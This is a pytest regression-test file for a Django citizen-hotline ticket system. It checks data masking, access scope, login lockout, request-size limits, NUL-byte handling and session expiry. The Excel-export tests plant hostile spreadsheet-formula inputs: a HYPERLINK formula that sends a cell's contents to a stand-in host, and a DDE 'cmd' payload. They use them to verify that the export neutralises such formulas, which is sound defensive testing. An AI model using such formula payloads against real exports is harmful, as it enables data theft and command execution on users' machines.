"""The findings of the security test of 2026-11-30 (../shared/findings/2026-11-30-security.md),
one test each, written to fail before the fix: what a role that sees a phone masked can learn,
scope after a return, exports, and the web's refusals of hostile input."""

from __future__ import annotations

import re

import pytest
from django.contrib.auth import get_user_model

from hotline.dispatch.services import dispatch_ticket
from hotline.orgs.models import Staff, Unit
from hotline.tickets.tests.helpers import new_ticket, township_matter


def _person(username: str, role: str, unit: Unit):
    user = get_user_model().objects.create_user(username=username, password="pw-for-tests-only")
    Staff.objects.create(user=user, role=role, unit=unit)
    return user


@pytest.fixture
def overseers(people):
    """A district overseer of 城东区 and a leader: both see requesters masked."""
    district = _person("district", Staff.Role.DISTRICT, Unit.objects.get(code="D630102-GOVSVC"))
    leader = _person("leader", Staff.Role.LEADER, people.centre)
    return district, leader


def _listed(client, url: str, code: str) -> bool:
    return code in client.get(url).content.decode()


def test_h1_a_masked_phone_cannot_be_completed_by_searching_its_tail(client, people, overseers):
    ticket = new_ticket(people.operator, requester_phone="13797178139")
    dispatch_ticket(ticket, lead_unit=people.township, matter=township_matter())
    district, leader = overseers
    for viewer in (district, leader, people.street):  # street: dispatched, not signed: masked
        client.force_login(viewer)
        page = client.get(f"/tickets/{ticket.code}/").content.decode()
        assert "137****8139" in page
        for url in ("/search/?q=78139", "/search/?q=13797178139", "/pool/?q=8139"):
            if viewer is people.street and url.startswith("/pool/"):
                continue
            assert not _listed(client, url, ticket.code), (viewer.username, url)
        # The code's tail still finds it.
        assert _listed(client, f"/search/?q={ticket.code[-6:]}", ticket.code)
    # The centre, which sees the number, finds the ticket by it.
    client.force_login(people.supervisor)
    assert _listed(client, "/search/?q=78139", ticket.code)
    # The repeat panel: a leader's number does not find the caller; the operator's does.
    panel = "/insight/repeats/?phone=13797178139&address=城东区东关大街街道东关大街12号"
    client.force_login(leader)
    same_caller = re.compile("同一来电人(；|</td>)")
    assert not same_caller.search(client.get(panel).content.decode())
    client.force_login(people.operator)
    assert same_caller.search(client.get(panel).content.decode())


def test_m1_a_formula_in_request_text_stays_text_in_the_excel_export(client, people):
    import io

    from openpyxl import load_workbook

    payload = '=HYPERLINK("//x.cn?"&A3,"点")'
    new_ticket(people.operator, content=payload + " 路灯不亮", title="=cmd|' /C calc'!A0 路灯不亮")
    client.force_login(people.supervisor)
    response = client.get("/search/?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("=cmd|") or str(c.value).startswith("=HYPERLINK") for c in cells)


def test_m1_append_row_and_csv_safe_neutralise_every_formula_start():
    import io

    from openpyxl import Workbook, load_workbook

    from hotline.tabular import append_row, csv_safe

    for write_only in (False, True):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("t")
        append_row(sheet, ["=1+1", '=HYPERLINK("x")', "plain", 3, None, "a\x00b"])
        saved = io.BytesIO()
        book.save(saved)
        row = list(load_workbook(saved).worksheets[-1].iter_rows())[0]
        assert [c.data_type for c in row[:2]] == ["s", "s"] and row[0].value == "=1+1"
        assert row[5].value == "ab"
    assert csv_safe("=1+1") == "'=1+1" and csv_safe("@SUM(A1)") == "'@SUM(A1)" and csv_safe("-x") == "'-x"
    assert csv_safe("-1.5") == "-1.5" and csv_safe("路灯") == "路灯" and csv_safe(3) == 3


def test_m2_numbers_and_names_in_the_request_text_are_masked_for_masked_roles(client, people, overseers):
    from hotline.handling.services import sign

    text = "我叫张三丰，身份证630102199001011234，电话139.1234.5678，小区门口占道经营"
    secrets_in_text = ("张三丰", "630102199001011234", "139.1234.5678")
    tip = new_ticket(people.operator, content=text, confidential=True, title="来电13912345678反映占道")
    plain = new_ticket(people.operator, content=text)
    for ticket in (tip, plain):
        dispatch_ticket(ticket, lead_unit=people.township, matter=township_matter())
    sign(plain, unit=people.township)
    district, leader = overseers
    for viewer, ticket in [(district, tip), (leader, tip), (people.street, tip), (district, plain), (leader, plain)]:
        client.force_login(viewer)
        page = client.get(f"/tickets/{ticket.code}/").content.decode()
        assert "小区门口占道经营" in page
        for secret in secrets_in_text + ("13912345678",):
            assert secret not in page, (viewer.username, ticket.code, secret)
    # Those who see the caller read the text as it was written.
    for viewer, ticket in [(people.supervisor, tip), (people.street, plain)]:
        client.force_login(viewer)
        page = client.get(f"/tickets/{ticket.code}/").content.decode()
        assert all(secret in page for secret in secrets_in_text), viewer.username


def test_m3_a_unit_that_returned_a_ticket_no_longer_reads_it_or_the_next_units_files(client, people):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from hotline.dispatch.returns import return_ticket
    from hotline.handling.services import record_contact, reply, sign

    ticket = new_ticket(people.operator)
    dispatch_ticket(ticket, lead_unit=people.housing, matter=township_matter())
    client.force_login(people.dept)
    assert client.get(f"/tickets/{ticket.code}/").status_code == 200  # while it is theirs
    return_ticket(ticket, unit=people.housing, reason="不属于本单位职责")
    dispatch_ticket(ticket, lead_unit=people.township, matter=township_matter())
    sign(ticket, unit=people.township)
    record_contact(ticket, unit=people.township, note="已联系")
    photo = SimpleUploadedFile("现场.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, content_type="image/png")
    reply(ticket, unit=people.township, result="已清理占道摊点。", attachments=[photo])
    attachment = ticket.attachments.get()
    assert client.get(f"/tickets/{ticket.code}/").status_code == 404
    assert client.get(f"/tickets/{ticket.code}/attachments/{attachment.pk}/").status_code == 404
    assert not _listed(client, "/search/", ticket.code)
    # The unit now on it reads both.
    client.force_login(people.street)
    assert client.get(f"/tickets/{ticket.code}/attachments/{attachment.pk}/").status_code == 200


def test_m4_repeated_wrong_passwords_lock_the_sign_in_even_for_the_right_one(client, people):
    for _n in range(4):
        wrong = client.post("/login/", {"username": "operator", "password": "wrong-guess"}, REMOTE_ADDR="203.0.113.1")
        assert wrong.status_code == 200
    fifth = client.post("/login/", {"username": "operator", "password": "wrong-guess"}, REMOTE_ADDR="203.0.113.1")
    assert fifth.status_code == 429
    # From another address (a guesser rotating addresses), and with the right password: still locked.
    locked = client.post(
        "/login/", {"username": "operator", "password": "pw-for-tests-only"}, REMOTE_ADDR="203.0.113.2"
    )
    assert locked.status_code == 429 and "_auth_user_id" not in client.session
    assert "锁定" in locked.content.decode() or "locked" in locked.content.decode()
    # Another user is not held back.
    assert client.post("/login/", {"username": "dispatcher", "password": "pw-for-tests-only"}).status_code == 302
    # The admin's sign-in is guarded the same way.
    admin = get_user_model().objects.create_superuser("root", password="right-Admin-pw-1")
    for _n in range(5):
        client.post("/admin/login/", {"username": "root", "password": "nope"})
    assert client.post("/admin/login/", {"username": "root", "password": "right-Admin-pw-1"}).status_code == 429
    assert admin.pk


def test_l5_a_body_larger_than_any_form_accepts_is_refused_before_it_is_read(client, people):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from hotline.tickets.models import Attachment

    ticket = new_ticket(people.operator)
    client.force_login(people.street)
    # The body is never read: a client announcing 150 MB is answered before it sends them.
    huge = client.post(
        f"/tickets/{ticket.code}/reply/",
        {"reply-result": "x", "reply-attachments": SimpleUploadedFile("a.png", b"\x89PNG\r\n\x1a\n")},
        CONTENT_LENGTH=str(150 * 1024 * 1024),
    )
    assert huge.status_code == 413 and huge["Connection"] == "close"
    assert not Attachment.objects.exists()
    # A body within the caps reaches the view as before.
    assert client.post(f"/tickets/{ticket.code}/reply/", {"reply-result": "x"}).status_code != 413


@pytest.mark.parametrize(
    "url",
    ["/knowledge/?q=%00", "/insight/repeats/?text=x&phone=%00", "/insight/repeats/?matter=%00", "/search/?q=a%00b"],
)
def test_l4_a_nul_byte_in_a_filter_is_dropped_not_a_500(client, people, url):
    """A 500 on PostgreSQL before (text fields cannot contain NUL); run it there too (make test-pg)."""
    client.force_login(people.supervisor)
    response = client.get(url)
    assert response.status_code == 200
    assert "\x00" not in response.content.decode()


def test_l4_a_nul_byte_in_a_posted_form_is_a_clear_400_and_writes_nothing(client, people):
    from hotline.tickets.models import Ticket

    client.force_login(people.operator)
    before = Ticket.objects.count()
    response = client.post("/console/", {"content": "路灯\x00不亮", "address": "城东区"})
    assert response.status_code == 400 and Ticket.objects.count() == before


def test_a_staff_session_ends_when_idle_and_at_its_absolute_age(client, people, settings):
    import datetime as dt

    import time_machine

    settings.SESSION_IDLE_MINUTES, settings.SESSION_MAX_HOURS = 30, 12
    start = dt.datetime(2026, 12, 9, 8, 0, tzinfo=dt.UTC)
    with time_machine.travel(start, tick=False) as clock:
        client.force_login(people.operator)
        assert client.get("/pool/").status_code in (200, 403)
        clock.move_to(start + dt.timedelta(minutes=29))
        assert client.get("/console/").status_code == 200  # 29 idle minutes: still signed in
        clock.move_to(start + dt.timedelta(minutes=29 + 31))
        gone = client.get("/console/")
        assert gone.status_code == 302 and "/login/" in gone["Location"]
        # However busy: a request every 20 minutes, and the session still ends after 12 hours.
        began = start + dt.timedelta(hours=1)
        clock.move_to(began)
        client.force_login(people.operator)
        for n in range(1, 38):
            clock.move_to(began + dt.timedelta(minutes=20 * n))
            status = client.get("/console/").status_code
            assert status == (200 if n * 20 <= 12 * 60 else 302), n
        # A page polling by itself does not keep an unattended session alive.
        quiet = began + dt.timedelta(hours=13)
        clock.move_to(quiet)
        client.force_login(people.operator)
        assert client.get("/console/").status_code == 200
        clock.move_to(quiet + dt.timedelta(minutes=20))
        assert client.get("/console/", HTTP_X_HOTLINE_BACKGROUND="1").status_code == 200
        clock.move_to(quiet + dt.timedelta(minutes=40))
        assert client.get("/console/").status_code == 302
        # An htmx request is told where to go instead of swapping the login page into a panel.
        client.force_login(people.operator)
        clock.move_to(began + dt.timedelta(hours=16))
        partial = client.get("/insight/repeats/?text=x", HTTP_HX_REQUEST="true")
        assert partial.status_code == 204 and "/login/" in partial["HX-Redirect"]
